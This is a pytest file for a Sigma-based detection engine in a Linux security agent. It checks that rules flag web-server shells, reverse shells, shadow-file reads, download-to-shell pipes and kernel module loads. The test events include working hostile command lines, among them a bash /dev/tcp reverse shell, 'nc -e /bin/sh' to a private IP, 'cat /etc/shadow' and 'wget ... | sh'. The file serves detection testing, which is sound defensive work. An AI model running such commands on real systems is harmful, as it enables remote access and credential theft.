# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import uuid
from pathlib import Path

import pytest

from agent.events import AuditEvent, Event, NetConnect, ProcessExec
from agent.logs.sigma import SigmaEngine


@pytest.fixture(scope="module")
def engine() -> SigmaEngine:
    eng = SigmaEngine.load()
    assert eng.unsupported == {}
    assert len(eng.rules) >= 9
    return eng


def proc(filename: str, *argv: str, parent: str = "sh") -> ProcessExec:
    return ProcessExec(
        ts=0, ppid=1, uid=33, comm=filename.rsplit("/", 1)[-1], filename=filename, argv=argv, parent_comm=parent
    )


def audit(types: tuple[str, ...], **kw: object) -> AuditEvent:
    return AuditEvent(ts=0, serial=1, record_types=types, **kw)  # type: ignore[arg-type]


CASES: list[tuple[Event, str | None]] = [
    (proc("/bin/sh", "sh", "-c", "id", parent="httpd"), "Shell Spawned By A Web Server Process"),
    (proc("/bin/sh", "sh", "-c", "id", parent="cron"), None),
    (proc("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "Reverse Shell Command Line"),
    (proc("/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"), "Reverse Shell Command Line"),
    (proc("/bin/CAT", "cat", "/etc/shadow"), "Shadow File Read By A Command Line Tool"),  # case-insensitive
    (proc("/bin/cat", "cat", "/etc/passwd"), None),
    (proc("/bin/sh", "sh", "-c", "wget -qO- http://x/i.sh | sh"), "Download Piped Into A Shell"),
    (proc("/bin/chmod", "chmod", "+x", "/tmp/x"), "Executable Permission Set In A Temporary Directory"),
    (proc("/bin/chmod", "chmod", "+x", "/usr/local/bin/x"), None),
    (
        audit(("SYSCALL", "PATH"), syscall="openat", exe="/bin/cat", paths=("/etc/shadow",)),
        "Audited Access To Shadow Files",
    ),
    (audit(("SYSCALL", "PATH"), syscall="openat", exe="/usr/bin/passwd", paths=("/etc/shadow",)), None),
    (audit(("SYSCALL",), syscall="finit_module", exe="/sbin/insmod"), "Kernel Module Loaded"),
    (audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-l", "-p", "9")), None),
    (
        audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-e", "/bin/sh", "1.2.3.4")),
        "Netcat Style Tool Executed With Execute Option",
    ),
    (
        NetConnect(
            ts=0,
            op="connect",
            comm="sh",
            family=2,
            protocol="tcp",
            saddr="10.0.0.2",
            sport=1,
            daddr="10.0.0.1",
            dport=4444,
        ),
        "Shell Process Opening An Outbound Connection",
    ),
    (
        NetConnect(
            ts=0,
            op="connect",
            comm="sh",
            family=2,
            protocol="tcp",
            saddr="127.0.0.1",
            sport=1,
            daddr="127.0.0.1",
            dport=4444,
        ),
        None,
    ),
    (
        NetConnect(
            ts=0,
            op="accept",
            comm="sh",
            family=2,
            protocol="tcp",
            saddr="10.0.0.2",
            sport=1,
            daddr="10.0.0.1",
            dport=4444,
        ),
        None,
    ),
]


@pytest.mark.parametrize(("event", "title"), CASES)
def test_curated_rules(engine: SigmaEngine, event: Event, title: str | None) -> None:
    got = [m.rule.title for m in engine.evaluate(event)]
    assert got == ([title] if title else [])


HEAD = "title: {t}\nid: {i}\nstatus: test\nlevel: low\nlogsource:\n{ls}\ndetection:\n{det}\n"
LINUX_PC = "    product: linux\n    category: process_creation"


def write(tmp: Path, name: str, t: str, ls: str, det: str) -> None:
    (tmp / name).write_text(HEAD.format(t=t, i=str(uuid.uuid4()), ls=ls, det=det))


def test_unsupported_rules_are_reported_with_reasons(tmp_path: Path) -> None:
    write(
        tmp_path,
        "a.yml",
        "windows",
        "    product: windows\n    category: process_creation",
        "    sel:\n        Image: x\n    condition: sel",
    )
    write(tmp_path, "b.yml", "unknown field", LINUX_PC, "    sel:\n        OriginalFileName: x\n    condition: sel")
    write(tmp_path, "c.yml", "fieldref", LINUX_PC, "    sel:\n        Image|fieldref: CommandLine\n    condition: sel")
    write(
        tmp_path,
        "d.yml",
        "ok",
        LINUX_PC,
        "    sel:\n        Image|endswith: '/id'\n        CommandLine|re: '^id$'\n    condition: sel",
    )
    (tmp_path / "e.yml").write_text("title: broken\nlogsource: [\n")
    write(tmp_path, "f.yml", "bad modifier", LINUX_PC, "    sel:\n        Image|nosuchmod: x\n    condition: sel")
    eng = SigmaEngine.load([tmp_path])
    assert [r.title for r in eng.rules] == ["ok"]
    reasons = " ".join(eng.unsupported.values())
    assert len(eng.unsupported) == 5, eng.unsupported
    assert "windows" in reasons and "OriginalFileName" in reasons
    assert eng.evaluate(proc("/usr/bin/id", "id"))[0].rule.title == "ok"
    report = eng.report()
    assert len(report["loaded"]) == 1 and len(report["unsupported"]) == 5


def test_shipped_rules_pass_pysigma_validators() -> None:
    from sigma.collection import SigmaCollection
    from sigma.plugins import InstalledSigmaPlugins
    from sigma.validation import SigmaValidator

    from agent.logs.sigma import DEFAULT_SIGMA_DIR

    validators = InstalledSigmaPlugins.autodiscover().validators
    # These three download the ATT&CK / D3FEND / CAR catalogues: no network in tests.
    offline = {k: v for k, v in validators.items() if k not in ("attacktag", "d3_fendtag", "cartag")}
    assert len(offline) > 20
    issues = SigmaValidator(offline.values()).validate_rules(SigmaCollection.load_ruleset([DEFAULT_SIGMA_DIR]))
    assert [(type(i).__name__, [r.title for r in i.rules]) for i in issues] == []
